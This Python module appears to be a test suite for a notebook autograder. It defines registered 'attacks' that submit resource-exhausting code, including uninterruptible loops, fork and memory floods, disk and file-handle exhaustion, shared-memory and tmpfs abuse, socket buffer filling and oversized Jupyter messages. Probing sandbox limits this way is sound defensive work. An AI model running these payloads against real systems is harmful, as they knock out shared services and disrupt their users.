"""Attacks that use up time, memory and disk."""

from attacks import IF_FOUND, attack


@attack(slow=True)
def never_ends():
    """A loop without end that catches every interruption."""
    return """
def convolve(sequence, weights):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
"""


@attack(slow=True)
def never_ends_in_the_answer_cell():
    """The cell itself never ends: nothing is ever asked."""
    return "while True:\n    try:\n        pass\n    except BaseException:\n        continue\n"


@attack(slow=True)
def never_ends_in_c():
    """A computation that no interruption reaches, for a year."""
    return "def convolve(sequence, weights):\n    return 7 ** (7 ** (7 ** 7))\n"


@attack(slow=True)
def sleeps():
    """Does nothing, for a year."""
    return "import time\ndef convolve(sequence, weights):\n    time.sleep(3e7)\n"


@attack(slow=True)
def delays_each_question():
    """Takes a while for each question, so that they add up."""
    return "import time\ndef convolve(sequence, weights):\n    time.sleep(9)\n    return 0\n"


@attack(slow=True)
def takes_all_memory():
    """Fills gigabyte after gigabyte."""
    return """
def convolve(sequence, weights):
    kept = []
    while True:
        kept.append(np.ones(2**27))
"""


@attack
def giant_answer():
    """An array that takes no memory until somebody lists its numbers."""
    return """
def convolve(sequence, weights):
    return np.broadcast_to(np.int8(0), (10**6, 10**6))
"""


@attack
def answer_without_end():
    """A sequence that never ends, and one that holds itself."""
    return """
class Endless:
    def __len__(self):
        return 2**60
    def __getitem__(self, index):
        return self

def convolve(sequence, weights):
    return Endless()
"""


@attack(slow=True)
def deep_answer():
    """A function that calls itself until the stack overflows."""
    return """
import sys
sys.setrecursionlimit(10**9)
def convolve(sequence, weights):
    return convolve(sequence, weights)
"""


@attack
def takes_all_disk():
    """Writes gigabytes wherever it can; it counts as a find when there is room for 2 GB."""
    return f"""
import os, tempfile
written = 0
for folder in {{os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")}}:
    try:
        for number in range(100):
            with open(f"{{folder}}/course_attack_canary{{number}}", "wb") as file:
                for _ in range(32):
                    written += file.write(bytes(2**20))
    except OSError:
        pass
found = written > 2e9
{IF_FOUND}"""


@attack
def takes_all_disk_through_the_runtime_folder():
    """Writes beside the kernel's sockets, where the grader's own disk is."""
    return f"""
import os
from ipykernel import get_connection_file
folder, written = os.path.dirname(get_connection_file()), 0
try:
    for number in range(40):
        with open(f"{{folder}}/course_attack_canary{{number}}", "wb") as file:
            for _ in range(30):
                written += file.write(bytes(2**20))
except OSError:
    pass
found = written > 5e8
{IF_FOUND}"""


@attack
def takes_all_files():
    """Makes files until there are no more, and opens them all."""
    return f"""
import os
kept = []
try:
    for number in range(200_000):
        kept.append(open(f"course_attack_canary{{number}}", "w"))
except OSError:
    pass
found = len(kept) > 100_000
{IF_FOUND}"""


@attack(slow=True)
def takes_all_memory_in_children():
    """Many processes with a little less than each may have."""
    return """
import os, time
def convolve(sequence, weights):
    for _ in range(30):
        if os.fork() == 0:
            kept = np.ones(2**26)
            time.sleep(1e6)
    time.sleep(1e6)
"""


@attack
def takes_memory_that_is_nobodys():
    """System V segments, files in memory, disks of its own: no process' memory grows."""
    return f"""
import ctypes
libc, found = ctypes.CDLL(None, use_errno=True), []
found += [number for number in range(20) if libc.shmget(0, 1 << 27, 0o1600) >= 0]
found += [number for number in range(20) if libc.semget(0, 32_000, 0o1600) >= 0]
found += [number for number in range(20) if libc.memfd_create(b"course_attack_canary", 0) >= 0]
if libc.unshare(0x10020000) == 0 and libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    found.append("a disk")
{IF_FOUND}"""


@attack
def slow_to_read():
    """Output that takes long to compare: carriage returns, backspaces, a line of a megabyte."""
    return """
def convolve(sequence, weights):
    import sys
    sys.__stdout__.write("a\\r" * 100_000 + "\\b\\r" * 100_000 + "A" * 400_000)
    return 0
"""


@attack(slow=True)
def takes_all_processors():
    """Starts many loops without end, each in a session of its own."""
    return """
import subprocess, time
def convolve(sequence, weights):
    for _ in range(20):
        subprocess.Popen(["/bin/sh", "-c", "while :; do :; done"], start_new_session=True)
    time.sleep(1e6)
"""


@attack(slow=True)
def fills_sockets():
    """Leaves bytes where no process counts them: on their way between two sockets."""
    return """
import os, socket, time
def convolve(sequence, weights):
    for _ in range(20):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    kept += socket.socketpair()
                    for end in kept[-2:]:
                        end.setblocking(False)
                        try:
                            while end.send(bytes(1 << 16)):
                                pass
                        except BlockingIOError:
                            pass
            except OSError:
                time.sleep(1e6)
    time.sleep(1e6)
"""


@attack(slow=True)
def makes_empty_files():
    """Makes files without a byte in them until something stops it."""
    return """
import os
def convolve(sequence, weights):
    for number in range(10**8):
        os.mknod(f"/dev/shm/course_attack_canary{number}")
"""


@attack(slow=True)
def sends_many_frames():
    """Sends one message of a thousand parts, each as large as is allowed."""
    return """
import time, zmq
def convolve(sequence, weights):
    thread = get_ipython().kernel.iopub_thread
    start, part = [b"stream", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"], bytes(999_000)
    def send():
        for frame in [*start, *[part] * 1500]:
            thread.socket.send(frame, zmq.SNDMORE, copy=False)
        thread.socket.send(b"", copy=False)
    thread.schedule(send)
    time.sleep(1e6)
"""
